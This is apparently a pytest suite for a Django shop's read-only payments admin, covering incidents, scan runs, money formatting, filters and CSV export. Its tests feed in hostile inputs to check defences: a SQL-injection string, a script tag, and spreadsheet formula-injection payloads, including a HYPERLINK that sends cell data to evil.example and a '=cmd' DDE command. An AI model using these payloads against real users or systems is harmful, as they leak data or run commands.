"""The merchant's read-only view: a legacy-mode 3-D Secure failure is findable, amounts
read as money, our section leads the admin, and the monitoring engine's incidents and
scan runs can be seen (never edited), with any filter value."""

from __future__ import annotations

import html as html_module
import json
import re
from datetime import timedelta

import pytest
from django.contrib import admin
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from payments.mail.receipts import RECEIPT_MAX_REFUSALS
from payments.models import Incident, Order, Product, ScanCursor, ScanLock, ScanRun, WebhookEvent
from payments.monitoring import scans
from payments.monitoring.leases import lease_hold
from tests.payments.conftest import shopper_with_order

NBSP = "\u00a0"  # the admin keeps "51.98 EUR" and a card on one line
LATE = NBSP.join(["late", "(history", "only)"])  # a ledger row kept as history only


@pytest.fixture
def merchant(admin_client):
    return admin_client


def test_a_legacy_authentication_failure_shows_in_the_admin(site_on_sandbox, product,
                                                            merchant):
    site_on_sandbox.PAYMENTS_HANDLE_ACTIONS = False
    failed = shopper_with_order(product)
    failed.pay(payment_method_id="pm_card_authenticationRequired")
    site_on_sandbox.PAYMENTS_HANDLE_ACTIONS = True
    paid = shopper_with_order(product)
    paid.pay(payment_method_id="pm_card_visa")
    page = merchant.get("/admin/payments/paymentattempt/",
                        {"last_decline_code": "authentication_not_handled"})
    assert page.status_code == 200
    html = page.content.decode()
    assert failed.order.reference in html and paid.order.reference not in html
    attempt = failed.order.attempts.get()
    detail = merchant.get(f"/admin/payments/paymentattempt/{attempt.pk}/change/")
    assert detail.status_code == 200 and "authentication_not_handled" in detail.content.decode()
    order_page = merchant.get(f"/admin/payments/order/{paid.order.pk}/change/").content.decode()
    assert f"51.98{NBSP}EUR" in order_page and "Succeeded" in order_page


def test_payments_cannot_be_edited_or_deleted_in_the_admin(site_on_sandbox, product,
                                                           merchant):
    shopper = shopper_with_order(product)
    shopper.pay(payment_method_id="pm_card_visa")
    attempt = shopper.order.attempts.get()
    response = merchant.post(f"/admin/payments/paymentattempt/{attempt.pk}/delete/",
                             {"post": "yes"})
    assert response.status_code == 403
    assert merchant.get("/admin/payments/order/add/").status_code == 403
    attempt.refresh_from_db()
    assert attempt.status == "succeeded"


def cells(html: str) -> list[str]:
    """The text of every table cell, tags stripped."""
    found = re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", html, flags=re.S)
    return [html_module.unescape(re.sub(r"<[^>]+>", "", cell)).strip() for cell in found]


@pytest.fixture
def paid_order(site_on_sandbox, product) -> Order:
    shopper = shopper_with_order(product, quantity=3)  # 3 × 25.99 EUR
    shopper.pay(payment_method_id="pm_card_visa")
    return shopper.order_now()


def test_amounts_read_as_money_in_lists_details_and_inlines(paid_order, merchant):
    attempt = paid_order.attempts.get()
    pages = {
        "orders": merchant.get("/admin/payments/order/"),
        "order": merchant.get(f"/admin/payments/order/{paid_order.pk}/change/"),
        "attempts": merchant.get("/admin/payments/paymentattempt/"),
        "attempt": merchant.get(f"/admin/payments/paymentattempt/{attempt.pk}/change/"),
    }
    for name, page in pages.items():
        html = page.content.decode()
        assert page.status_code == 200, name
        assert f"77.97{NBSP}EUR" in html, name
        # Never the stored minor units or a bare currency code.
        assert not {"7797", "2599", "eur"} & set(cells(html)), name
        assert not re.search(r'<div class="readonly">\s*(7797|eur)\s*</div>', html), name
    order_html = pages["order"].content.decode()
    assert f"25.99{NBSP}EUR" in order_html  # the line's unit price


def test_order_lines_say_what_was_bought(paid_order, merchant):
    html = merchant.get(f"/admin/payments/order/{paid_order.pk}/change/").content.decode()
    assert "3 × Espresso cups" in html
    assert "OrderLine object" not in html and "PaymentAttempt object" not in html


def test_the_attempts_list_has_few_compact_columns(paid_order, merchant):
    attempt = paid_order.attempts.get()
    html = merchant.get("/admin/payments/paymentattempt/").content.decode()
    headers = re.findall(r'<th scope="col" class="[^"]*column-([\w]+)', html)
    assert headers == ["intent", "order_link", "status", "amount_display", "card", "failure",
                       "updated"]
    row = cells(html)[len(headers):]
    assert row[0] == f"{attempt.stripe_id[:9]}\u2060…\u2060{attempt.stripe_id[-4:]}"
    assert row[1] == paid_order.reference and row[2] == "Succeeded"
    assert row[4] == NBSP.join(["Visa", "••••", "4242", "(US)"])  # the brand as Stripe names it
    assert f'href="/admin/payments/order/{paid_order.pk}/change/"' in html
    assert f'title="{attempt.stripe_id}"' in html  # the full id, on hover


def test_a_decline_shows_its_code_in_the_list(site_on_sandbox, product, merchant):
    shopper_with_order(product).pay(payment_method_id="pm_card_chargeDeclinedInsufficientFunds")
    html = merchant.get("/admin/payments/paymentattempt/").content.decode()
    assert "Insufficient funds" in cells(html)  # in the words every page uses
    assert 'title="card_declined / insufficient_funds"' in html  # the codes on hover


def test_the_order_page_shows_the_session_hash_never_the_key(paid_order, merchant):
    html = merchant.get(f"/admin/payments/order/{paid_order.pk}/change/").content.decode()
    assert "session_key" not in html.lower() and "Session key" not in html
    assert paid_order.session_hash and paid_order.session_hash in html


def test_payments_come_first_in_the_admin_index(merchant):
    html = merchant.get("/admin/").content.decode()
    apps = re.findall(r'class="app-(\w+) module', html)
    assert apps[0] == "payments" and {"auth", "djstripe"} <= set(apps)


def test_only_the_stripe_models_ops_needs_stay_in_the_admin(merchant):
    from djstripe import models as djstripe_models

    for kept in ("paymentintent", "charge", "webhookendpoint", "customer", "paymentmethod"):
        assert merchant.get(f"/admin/djstripe/{kept}/").status_code == 200, kept
    # dj-stripe's events and triggers stay empty: our intake stores events (WebhookEvent).
    for dropped in (djstripe_models.Subscription, djstripe_models.Invoice,
                    djstripe_models.Coupon, djstripe_models.TaxRate,
                    djstripe_models.IdempotencyKey, djstripe_models.Event,
                    djstripe_models.WebhookEventTrigger):
        assert not admin.site.is_registered(dropped)
    assert merchant.get("/admin/djstripe/subscription/").status_code == 404


# --- monitoring: incidents, scan runs, cursors, leases -----------------------------------

def intent_of(response) -> str:
    return response.json()["clientSecret"].split("_secret_")[0]


@pytest.fixture
def monitored(site_on_sandbox, settings, product, sandbox):
    """Made through the services, as in production: two failed bank challenges found by
    the events scan, one order then paid with another card (its failure arrives late, as
    history), a stale sweep; and an incident from outside the checkout."""
    settings.PAYMENTS_BACKGROUND_CALLS_PER_SECOND = 0
    scans.scan_events()  # anchors the cursor
    recovered, still_open = shopper_with_order(product), shopper_with_order(product)
    recovered_intent = intent_of(recovered.pay(payment_method_id="pm_card_authenticationRequired"))
    sandbox.authenticate(recovered_intent, "fail")
    open_intent = intent_of(still_open.pay(payment_method_id="pm_card_authenticationRequired"))
    sandbox.authenticate(open_intent, "fail")
    assert recovered.pay(payment_method_id="pm_card_visa").json()["success"] is True
    scans.scan_events()
    scans.scan_stale()
    outside = Incident.objects.create(
        kind=Incident.Kind.REQUIRES_ACTION_NOT_HANDLED, stripe_id="pi_outsideCheckout0000001",
        amount=1250, currency="usd", customer_email="legacy@example.com",
        error_code="authentication_required", decline_code="authentication_not_handled",
        intent_status="requires_payment_method", source="scan")
    return {"recovered": Incident.objects.get(stripe_id=recovered_intent),
            "open": Incident.objects.get(stripe_id=open_intent), "outside": outside}


def test_the_incident_list_reads_at_a_glance(monitored, merchant):
    page = merchant.get("/admin/payments/incident/")
    assert page.status_code == 200
    html = page.content.decode()
    headers = re.findall(r'<th scope="col" class="[^"]*column-([\w]+)', html)
    assert headers == ["customer", "amount_display", "kind_and_status", "last_error",
                       "seen_ago", "expires", "where"]  # the intent under its order
    row_cells = cells(html)
    assert f"51.98{NBSP}EUR" in row_cells and f"12.50{NBSP}USD" in row_cells
    assert not {"5198", "1250", "eur", "usd"} & set(row_cells)
    # The status under the kind.
    assert '3-D Secure not handled<br><span class="quiet">Open</span>' in html
    assert 'Authentication failed<br><span class="quiet">Recovered (paid later)</span>' in html
    # The last error in words, the codes on hover; the card under the customer.
    assert "Failed the bank's check" in row_cells
    assert "Bank asked for 3-D Secure; checkout could not ask" in row_cells
    assert 'title="payment_intent_authentication_failure' in html
    assert 'title="authentication_required / authentication_not_handled' in html
    assert NBSP.join(["Visa", "••••", "3184", "(DE)"]) in html
    assert "outside checkout" in html
    order = monitored["open"].order
    short = f"{order.reference[:9]}\u2060…\u2060{order.reference[-4:]}"
    assert f'<a href="/admin/payments/order/{order.pk}/change/" title="{order.reference}">' \
        f'{short}</a>' in html
    intent = monitored["open"].stripe_id
    assert f'title="{intent}">{intent[:9]}\u2060…\u2060{intent[-4:]}<' in html
    assert re.search(r'<span title="payment made [^"]+, first seen [^"]+">\d+\u00a0minutes?'
                     r'</span>', html)
    assert "shopper@example.com" in html
    assert "Incident object" not in html
    assert "Export CSV" in html


def test_the_incident_page_shows_everything_with_the_ledger_and_late_facts(monitored,
                                                                          merchant):
    incident = monitored["recovered"]
    page = merchant.get(f"/admin/payments/incident/{incident.pk}/change/")
    assert page.status_code == 200
    html = page.content.decode()
    assert incident.error_message and incident.error_message in html
    assert incident.stripe_id in html and f"51.98{NBSP}EUR" in html
    assert f'href="/admin/payments/order/{incident.order_id}/change/"' in html
    assert f'href="/admin/payments/paymentattempt/{incident.attempt_id}/change/"' in html
    assert "Ledger of the payment attempt" in html
    # The failed challenge reached the scan after the payment succeeded: history only.
    assert incident.attempt.events.filter(applied=False).exists()
    assert LATE in html and "Stated by Stripe" in html
    assert "Save" not in html and 'name="_save"' not in html
    outside = merchant.get(f"/admin/payments/incident/{monitored['outside'].pk}/change/")
    assert outside.status_code == 200
    assert "made outside this checkout" in outside.content.decode()


def test_the_attempt_page_marks_late_ledger_rows(monitored, merchant):
    attempt = monitored["recovered"].attempt
    html = merchant.get(f"/admin/payments/paymentattempt/{attempt.pk}/change/").content.decode()
    assert LATE in html and "Stated by Stripe" in html


def test_incident_filters_and_search_find_what_they_say(monitored, merchant):
    def listed(**query) -> set[str]:
        page = merchant.get("/admin/payments/incident/", query)
        assert page.status_code == 200, query
        return {incident.stripe_id for incident in page.context["cl"].result_list}

    open_, recovered, outside = (monitored[name].stripe_id
                                 for name in ("open", "recovered", "outside"))
    assert listed(kind="authentication_failed") == {open_, recovered}
    assert listed(status="open") == {open_, outside}
    assert listed(currency="usd") == {outside}
    assert listed(source="scan") == {open_, recovered, outside}
    assert listed(q="legacy@") == {outside}
    assert listed(q=monitored["open"].order.reference) == {open_}
    assert listed(q=open_) == {open_}
    # (The recovered incident shows the card that paid later: reported to monitoring.)
    assert open_ in listed(q="3184") and outside not in listed(q="3184")
    # As the filter's "Today" link puts it: local midnight with its offset.
    today = timezone.localtime(monitored["open"].first_seen_at).replace(
        hour=0, minute=0, second=0, microsecond=0)
    assert listed(first_seen_at__gte=str(today)) == {open_, recovered, outside}
    assert listed(first_seen_at__lt=str(today)) == set()


JUNK_QUERIES = [
    {"kind": "junk"}, {"status": "'; DROP TABLE x;--"}, {"currency": "€€€"},
    {"first_seen_at__gte": "notadate"}, {"first_seen_at__lt": "2026-13-45"},
    {"q": "%_\\'\"<script>\u202e"}, {"q": '"unbalanced'}, {"q": "x" * 5000},
    {"q": "a\x00b"}, {"kind": "\x00"}, {"o": "99.-x"}, {"p": "junk"}, {"p": "999"},
    {"started_at__gte": "notadate"}, {"nosuchfield": "1"},
    {"id__in": "9" * 30},  # past 64 bits: SQLite's driver raised OverflowError (a 500)
]


@pytest.mark.parametrize("path", ["/admin/payments/incident/", "/admin/payments/scanrun/",
                                  "/admin/payments/scancursor/", "/admin/payments/scanlock/"])
@pytest.mark.parametrize("query", JUNK_QUERIES, ids=range(len(JUNK_QUERIES)))
def test_junk_filter_values_never_fail(monitored, merchant, path, query):
    page = merchant.get(path, query, follow=True)
    assert page.status_code == 200
    html = page.content.decode()
    assert "Database error" not in html
    if page.redirect_chain and "p" in query:  # the first page, the filters kept
        assert page.redirect_chain == [(path, 302)]
        assert f"The list has no page “{query['p']}” now; here is its first page." in html
    elif page.redirect_chain:
        assert page.redirect_chain == [(path, 302)]
        assert "was not valid" in html


def test_a_page_past_the_end_shows_the_first_page_with_the_filters_kept(monitored, merchant,
                                                                        monkeypatch):
    """An ops person on page 2 who resolved its rows reloads: the first page, searched as
    before, not the whole list with "a filter was not valid"."""
    from payments.admin.incidents import IncidentAdmin

    monkeypatch.setattr(IncidentAdmin, "list_per_page", 1)  # two pages of two rows
    page = merchant.get("/admin/payments/incident/", {"q": "shopper@example.com", "p": "3"},
                        follow=True)
    assert page.redirect_chain == [("/admin/payments/incident/?q=shopper%40example.com", 302)]
    html = page.content.decode()
    assert "has no page “3” now" in html and "was not valid" not in html
    assert len(page.context["cl"].result_list) == 1 and page.context["cl"].result_count == 2
    # A page and a filter that is not valid: the filter's message, not the page's.
    page = merchant.get("/admin/payments/incident/", {"p": "1", "nosuchfield": "1"},
                        follow=True)
    html = page.content.decode()
    assert "was not valid" in html and "has no page" not in html


def test_a_date_that_is_not_a_date_shows_everything_with_a_message(monitored, merchant):
    page = merchant.get("/admin/payments/incident/", {"first_seen_at__gte": "notadate"},
                        follow=True)
    assert page.status_code == 200 and len(page.context["cl"].result_list) == 3
    assert "was not valid" in page.content.decode()


def test_scan_runs_cursors_and_leases_are_visible(monitored, merchant):
    runs = merchant.get("/admin/payments/scanrun/")
    assert runs.status_code == 200
    html = runs.content.decode()
    assert {"Incremental (events)", "Stale sweep", "Done"} <= set(cells(html))
    assert "ScanRun object" not in html
    assert merchant.get("/admin/payments/scanrun/", {"kind": "stale"}
                        ).context["cl"].result_count == 1
    run = ScanRun.objects.filter(kind="events").first()
    assert merchant.get(f"/admin/payments/scanrun/{run.pk}/change/").status_code == 200
    ScanRun.objects.create(kind="stale", status="failed", errors="Stripe kept failing: " +
                           "HTTP 503 " * 40)
    html = merchant.get("/admin/payments/scanrun/", {"status": "failed"}).content.decode()
    assert "Stripe kept failing" in html and "…" in html  # truncated, the whole on hover
    cursor = ScanCursor.objects.get(name="events")
    html = merchant.get("/admin/payments/scancursor/").content.decode()
    assert cursor.value in cells(html)
    with lease_hold(name="scan:stale", ttl=scans.lease_ttl()):
        html = merchant.get("/admin/payments/scanlock/").content.decode()
    assert "scan:stale" in cells(html) and "held, expires in" in html


@pytest.mark.parametrize("model", ["incident", "scanrun", "scancursor", "scanlock"])
def test_monitoring_rows_cannot_be_added_changed_or_deleted(monitored, merchant, model):
    if model == "scanlock":
        ScanLock.objects.create(name="scan:events", holder="worker-1",
                                expires_at=monitored["open"].first_seen_at)
    row = {"incident": Incident, "scanrun": ScanRun, "scancursor": ScanCursor,
           "scanlock": ScanLock}[model].objects.first()
    base = f"/admin/payments/{model}/"
    pk = row.pk
    assert merchant.post(f"{base}{pk}/change/", {"status": "lost"}).status_code == 403
    assert merchant.post(f"{base}{pk}/delete/", {"post": "yes"}).status_code == 403
    assert merchant.get(f"{base}add/").status_code == 403
    listing = merchant.post(base, {"action": "delete_selected", "_selected_action": [pk],
                                   "post": "yes"}, follow=True)
    assert listing.status_code == 200
    assert type(row).objects.filter(pk=pk).exists()
    assert merchant.get(f"{base}{pk}/change/").status_code == 200  # view only


def incidents_make(count: int, order: Order | None) -> None:
    for n in range(count):
        Incident.objects.create(
            kind=Incident.Kind.AUTHENTICATION_FAILED, stripe_id=f"pi_count{count}_{n:04d}",
            order=order if n % 2 else None, amount=1000 + n, currency="eur",
            customer_email=f"c{n}@example.com", card_brand="visa", card_last4="3184",
            card_country="DE", error_code="payment_intent_authentication_failure",
            intent_status="requires_payment_method", source="webhook")


def queries_for_incident_list(merchant) -> int:
    from django.core.cache import cache

    from payments.admin.incidents import present_values_cache_key

    # Cold: the filters' values are read too (they are cached a minute otherwise).
    cache.delete_many([present_values_cache_key(field) for field in
                       ("currency", "card_brand", "card_country", "decline_code", "source")])
    with CaptureQueriesContext(connection) as queries:
        assert merchant.get("/admin/payments/incident/").status_code == 200
    return len(queries)


def test_the_incident_list_makes_as_many_queries_for_50_rows_as_for_5(paid_order, merchant):
    incidents_make(5, paid_order)
    few = queries_for_incident_list(merchant)
    Incident.objects.all().delete()
    incidents_make(50, paid_order)
    assert queries_for_incident_list(merchant) == few


def test_incidents_lead_the_payments_section_of_the_index(merchant):
    html = merchant.get("/admin/").content.decode()
    apps = re.findall(r'class="app-(\w+) module', html)
    assert apps[0] == "payments"
    section = html.split('class="app-payments module')[1].split("</table>")[0]
    models = re.findall(r'class="model-(\w+)', section)
    assert models == ["incident", "opsaction", "recoverylink", "order", "paymentattempt",
                      "reconciliationmismatch", "reconciliationrun", "scanrun",
                      "webhookevent", "scancursor", "scanlock", "product",
                      "erasurerecord"]  # a superuser's index (admin_client)
    app_page = merchant.get("/admin/payments/").content.decode()
    assert re.findall(r'class="model-(\w+)', app_page)[0] == "incident"


# --- the failed payments list: ranges, card filters, CSV export ---------------------------

def incident_make(stripe_id: str, **fields) -> Incident:
    values = {"kind": Incident.Kind.AUTHENTICATION_FAILED, "amount": 1000, "currency": "eur",
              "customer_email": f"{stripe_id}@example.com", "card_brand": "visa",
              "card_last4": "3184", "card_country": "DE",
              "error_code": "payment_intent_authentication_failure",
              "intent_status": "requires_payment_method", "source": "webhook", **fields}
    return Incident.objects.create(stripe_id=stripe_id, **values)


@pytest.fixture
def varied(db):
    now = timezone.now()
    return {
        "small": incident_make("pi_small", amount=550, first_seen_at=now - timedelta(days=10)),
        "ten": incident_make("pi_ten", amount=1000, card_brand="mastercard", card_country="FR",
                             first_seen_at=now - timedelta(days=3)),
        "big": incident_make("pi_big", amount=250000, currency="usd", card_country="US",
                             error_code="card_declined", decline_code="insufficient_funds",
                             error_message="Your card has insufficient funds.",
                             first_seen_at=now),
        "yen": incident_make("pi_yen", amount=1200, currency="jpy", card_brand="jcb",
                             card_country="JP", first_seen_at=now - timedelta(days=1)),
    }


def listed(client, query) -> set[str]:
    page = client.get("/admin/payments/incident/", query)
    assert page.status_code == 200, query
    return {incident.stripe_id for incident in page.context["cl"].result_list}


def test_amount_range_in_minor_units_and_typed_in_major_units(varied, merchant):
    assert listed(merchant, {"amount__gte": "1000"}) == {"pi_ten", "pi_big", "pi_yen"}
    assert listed(merchant, {"amount__gte": "600", "amount__lte": "1000"}) == {"pi_ten"}
    # The filter's form: a merchant types "10" and means 10.00 (1000 minor units).
    page = merchant.get("/admin/payments/incident/", {"amount_from": "10", "amount_to": "10,00",
                                                      "kind": "authentication_failed"})
    assert page.status_code == 302
    location = page["Location"]
    assert "amount__gte=1000" in location and "amount__lte=1000" in location
    assert "kind=authentication_failed" in location and "amount_from" not in location
    followed = merchant.get("/admin/payments/incident/", {"amount_from": "5.5"}, follow=True)
    assert {i.stripe_id for i in followed.context["cl"].result_list} == \
        {"pi_small", "pi_ten", "pi_big", "pi_yen"}
    assert followed.redirect_chain[0][0].endswith("amount__gte=550")
    # Yen has no minor unit: 1200 typed is 1200.
    page = merchant.get("/admin/payments/incident/", {"amount_from": "1200", "currency": "jpy"})
    assert "amount__gte=1200" in page["Location"]
    html = merchant.get("/admin/payments/incident/", {"amount__gte": "1000"}).content.decode()
    assert 'name="amount_from" value="10.00"' in html  # shown as typed, in major units
    # No currency chosen: "up to 50" is 50 yen for yen, not 5,000 yen.
    assert "pi_yen" not in listed(merchant, {"amount__lte": "5000"})
    assert "pi_yen" in listed(merchant, {"amount__lte": "120000"})
    assert "pi_yen" not in listed(merchant, {"amount__gte": "120100"})  # over 1,201 JPY


def test_amounts_of_a_three_decimal_currency_are_typed_and_shown_in_its_digits(varied,
                                                                             merchant):
    incident_make("pi_dinar", amount=5120, currency="kwd")  # 5.120 KWD
    # No currency chosen: "5.12" (kept as 512 cents) is 5.120 KWD for a dinar payment.
    assert "pi_dinar" in listed(merchant, {"amount__gte": "512", "amount__lte": "512"})
    assert "pi_dinar" not in listed(merchant, {"amount__gte": "513"})
    page = merchant.get("/admin/payments/incident/", {"amount_from": "5.12", "currency": "kwd"})
    assert "amount__gte=5120" in page["Location"]
    html = merchant.get("/admin/payments/incident/", {"amount__gte": "5120",
                                                      "currency": "kwd"}).content.decode()
    assert 'name="amount_from" value="5.120"' in html
    assert "5.120\N{NO-BREAK SPACE}KWD" in html or "5.120 KWD" in html


def test_a_price_stripe_would_refuse_is_refused_in_the_admin(admin_client):
    form = {"sku": "dates", "name": "Dates", "description": "", "currency": "KWD",
            "active": "on"}
    refused = admin_client.post("/admin/payments/product/add/", {**form, "price": "5125"})
    assert refused.status_code == 200
    assert "must end in 0" in refused.content.decode()
    assert not Product.objects.filter(sku="dates").exists()
    saved = admin_client.post("/admin/payments/product/add/", {**form, "price": "5120"})
    assert saved.status_code == 302
    assert Product.objects.get(sku="dates").currency == "kwd"
    # Stripe charges at most eight digits: a price above can never be paid.
    form["sku"] = "palace"
    refused = admin_client.post("/admin/payments/product/add/", {**form, "price": "100000000"})
    assert "Stripe charges at most 99,999.999 KWD in one payment." in refused.content.decode()
    assert not Product.objects.filter(sku="palace").exists()
    # Said as a German reader writes money ("999,999.99 EUR" read as about a thousand).
    german = admin_client.post("/admin/payments/product/add/",
                               {**form, "currency": "eur", "price": "100000000"},
                               HTTP_ACCEPT_LANGUAGE="de")
    assert "999.999,99" in german.content.decode()
    assert 'class="vIntegerField price-field"' in german.content.decode()  # nine digits
    # Nothing is free at Stripe: no number of a product at 0 makes a cart it charges.
    form["sku"] = "sample"
    refused = admin_client.post("/admin/payments/product/add/", {**form, "price": "0"})
    assert "A price must be at least 0.001 KWD" in refused.content.decode()
    assert not Product.objects.filter(sku="sample").exists()


def test_a_price_below_stripes_minimum_is_saved_with_a_warning(admin_client):
    """A shopper may buy several: the product is saved, and the merchant told the cart
    will ask for more (Stripe refuses a 10 CZK charge: its minimum is 15 CZK)."""
    form = {"sku": "magnet", "name": "Fridge magnet", "description": "", "currency": "czk",
            "active": "on", "price": "1000"}
    saved = admin_client.post("/admin/payments/product/add/", form, follow=True)
    assert Product.objects.get(sku="magnet").price == 1000
    page = saved.content.decode()
    assert '<li class="warning">10.00 CZK is below Stripe&#x27;s smallest card payment in CZK ' \
           "(15.00 CZK): the shop will ask shoppers for a cart of at least 15.00 CZK before " \
           "they can check out.</li>" in page
    product = Product.objects.get(sku="magnet")
    changed = admin_client.post(f"/admin/payments/product/{product.pk}/change/",
                                {**form, "price": "1500"}, follow=True)
    assert Product.objects.get(sku="magnet").price == 1500
    assert "below Stripe" not in changed.content.decode()


@pytest.mark.parametrize("query", [
    {"amount__gte": "ten"}, {"amount__lte": "-5"}, {"amount__gte": "1e9"},
    {"amount__gte": "9" * 40}, {"amount_from": "ten"}, {"amount_to": "1,000.00"},
    {"amount_from": "\u0661\u0660"}, {"first_seen_at__lte": "yesterday"},
    {"first_seen_at__gte": "9999-12-31"}, {"first_seen_at__lte": "2026-02-30"},
])
def test_junk_ranges_are_ignored_with_a_message(varied, merchant, query):
    page = merchant.get("/admin/payments/incident/", query, follow=True)
    assert page.status_code == 200
    assert len(page.context["cl"].result_list) == 4
    assert "was not valid" in page.content.decode()


def test_first_seen_from_to_includes_both_days(varied, merchant):
    today = timezone.localdate()
    assert listed(merchant, {"first_seen_at__gte": str(today - timedelta(days=3)),
                             "first_seen_at__lte": str(today - timedelta(days=1))}) == \
        {"pi_ten", "pi_yen"}
    assert listed(merchant, {"first_seen_at__lte": str(today)}) == \
        {"pi_small", "pi_ten", "pi_big", "pi_yen"}
    html = merchant.get("/admin/payments/incident/", {"first_seen_at__gte": str(today),
                                                      "q": "pi_"}).content.decode()
    assert f'name="first_seen_at__gte" value="{today}"' in html
    assert '<input type="hidden" name="q" value="pi_">' in html  # the search survives


def test_card_brand_country_and_decline_code_filters(varied, merchant):
    assert listed(merchant, {"card_brand": "mastercard"}) == {"pi_ten"}
    assert listed(merchant, {"card_country": "JP"}) == {"pi_yen"}
    assert listed(merchant, {"decline_code": "insufficient_funds"}) == {"pi_big"}
    assert listed(merchant, {"card_brand": "no-such-brand"}) == set()
    html = merchant.get("/admin/payments/incident/").content.decode()
    assert "By card brand" in html and "By card country" in html
    assert "Insufficient funds" in html  # the decline code filter speaks words
    assert listed(merchant, {"q": "3184"}) == {"pi_small", "pi_ten", "pi_big", "pi_yen"}
    # Kind and status in the address under their own names (as the dashboard links them),
    # and the sidebar shows the choice made.
    html = merchant.get("/admin/payments/incident/", {"status": "open"}).content.decode()
    assert re.search(r'class="selected">\s*<a href="\?status=open">Open</a>', html)
    assert listed(merchant, {"kind": "expired"}) == set()


def test_expires_in_for_an_open_payment_waiting_for_its_confirm(paid_order, merchant):
    attempt = paid_order.attempts.get()
    type(attempt).objects.filter(pk=attempt.pk).update(
        status="requires_confirmation",
        requires_confirmation_at=timezone.now() - timedelta(minutes=50))
    waiting = incident_make("pi_waiting", kind=Incident.Kind.CONFIRMATION_ABANDONED,
                            attempt=attempt, order=paid_order, error_code="",
                            intent_status="requires_confirmation")
    incident_make("pi_other")
    html = merchant.get("/admin/payments/incident/").content.decode()
    assert f"<strong>in{NBSP}10{NBSP}min</strong>" in html  # urgent: bold
    detail = merchant.get(f"/admin/payments/incident/{waiting.pk}/change/").content.decode()
    assert f"in{NBSP}10{NBSP}min" in detail


def test_an_incident_page_says_when_the_sweep_sent_its_confirm(paid_order, merchant):
    waiting = incident_make("pi_waiting", kind=Incident.Kind.CONFIRMATION_ABANDONED,
                            order=paid_order, intent_status="requires_confirmation")
    page = f"/admin/payments/incident/{waiting.pk}/change/"
    assert "Auto-finalize sent" not in merchant.get(page).content.decode()
    Incident.objects.filter(pk=waiting.pk).update(finalize_sent_at=timezone.now())
    html = merchant.get(page).content.decode()
    assert re.search(r'Auto-finalize sent:?</label>\s*<div class="readonly">[^<]*'
                     r"\d{2}:\d{2}:\d{2}", html)


def csv_rows(response) -> list[list[str]]:
    import csv
    import io

    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_the_csv_export_has_exactly_what_the_filters_show(varied, merchant):
    list_page = merchant.get("/admin/payments/incident/", {"currency": "eur", "o": "-3"})
    assert 'href="/admin/payments/incident/export/?currency=eur&amp;o=-3"' in \
        list_page.content.decode()
    response = merchant.get("/admin/payments/incident/export/", {"currency": "eur"})
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    header, *rows = csv_rows(response)
    assert header[:7] == ["First seen", "Kind", "Status", "Customer email", "Amount",
                          "Currency", "Last error"]
    column = {name: header.index(name) for name in header}
    assert sorted((r[column["PaymentIntent"]], r[column["Amount"]], r[column["Currency"]])
                  for r in rows) == [("pi_small", "5.50", "EUR"), ("pi_ten", "10.00", "EUR")]
    big = csv_rows(merchant.get("/admin/payments/incident/export/", {"q": "pi_big"}))[1]
    assert (big[column["Amount"]], big[column["Currency"]], big[column["Last error"]]) == \
        ("2500.00", "USD", "Insufficient funds")
    yen = csv_rows(merchant.get("/admin/payments/incident/export/", {"currency": "jpy"}))[1]
    assert yen[column["Amount"]] == "1200"
    everything = csv_rows(merchant.get("/admin/payments/incident/export/"))
    assert len(everything) == 5


def test_csv_cells_that_spreadsheets_would_run_are_escaped(db, merchant):
    hostile = {
        "pi_eq": '=HYPERLINK("http://evil.example/?"&A1,"Click")@x.com',
        "pi_plus": "+1+1@x.com", "pi_minus": "-2+3@x.com", "pi_at": "@SUM(A1:A9)",
        "pi_tab": "\t=1@x.com", "pi_cr": "\r=1@x.com", "pi_ok": "plain@x.com",
    }
    for stripe_id, email in hostile.items():
        incident_make(stripe_id, customer_email=email,
                      error_message="=cmd|' /C calc'!A0" if stripe_id == "pi_eq" else "")
    header, *rows = csv_rows(merchant.get("/admin/payments/incident/export/"))
    email_at, intent_at = header.index("Customer email"), header.index("PaymentIntent")
    emails = {row[intent_at]: row[email_at] for row in rows}
    for stripe_id, email in hostile.items():
        expected = email if stripe_id == "pi_ok" else f"'{email}"
        assert emails[stripe_id] == expected, stripe_id
    eq_row = next(row for row in rows if row[intent_at] == "pi_eq")
    assert eq_row[header.index("Stripe's message")] == "'=cmd|' /C calc'!A0"
    assert eq_row[header.index("Last error")] == "Failed the bank's check"


@pytest.mark.parametrize("query", [{"q": "a\x00b"}, {"first_seen_at__gte": "notadate"},
                                   {"amount__gte": "junk"}, {"o": "99.-x"}, {"p": "999"},
                                   {"nosuchfield": "1"}])
def test_the_csv_export_takes_junk_without_a_500(varied, merchant, query):
    response = merchant.get("/admin/payments/incident/export/", query)
    assert response.status_code in (200, 302)
    if response.status_code == 200:
        assert len(csv_rows(response)) >= 1


def test_the_csv_export_needs_its_permission(varied, db, client):
    from django.contrib.auth.models import Permission, User

    viewer = User.objects.create_user("viewer", password="x", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_incident"))
    client.force_login(viewer)
    html = client.get("/admin/payments/incident/").content.decode()
    assert "Export CSV" not in html
    assert client.get("/admin/payments/incident/export/").status_code == 403
    viewer.user_permissions.add(Permission.objects.get(codename="export_incident"))
    response = client.get("/admin/payments/incident/export/")
    assert response.status_code == 200 and len(csv_rows(response)) == 5


def test_the_incident_page_shows_the_stripe_events_behind_it(varied, merchant):
    def event(event_id: str, intent_id: str, event_type: str, **intent) -> None:
        body = {"id": event_id, "object": "event", "type": event_type, "livemode": False,
                "created": int(timezone.now().timestamp()),
                "data": {"object": {"id": intent_id, "object": "payment_intent", **intent}}}
        WebhookEvent.objects.create(id=event_id, type=event_type, object_id=intent_id,
                                    livemode=False, created=timezone.now(),
                                    body=json.dumps(body))

    event("evt_mine1", "pi_big", "payment_intent.requires_action", status="requires_action")
    event("evt_mine2", "pi_big", "payment_intent.payment_failed",
          status="requires_payment_method",
          last_payment_error={"code": "card_declined", "decline_code": "insufficient_funds"})
    event("evt_other", "pi_small", "payment_intent.succeeded", status="succeeded")
    html = merchant.get(f"/admin/payments/incident/{varied['big'].pk}/change/").content.decode()
    assert "Stripe events about this payment" in html
    assert "evt_mine1" in html and "evt_mine2" in html and "evt_other" not in html
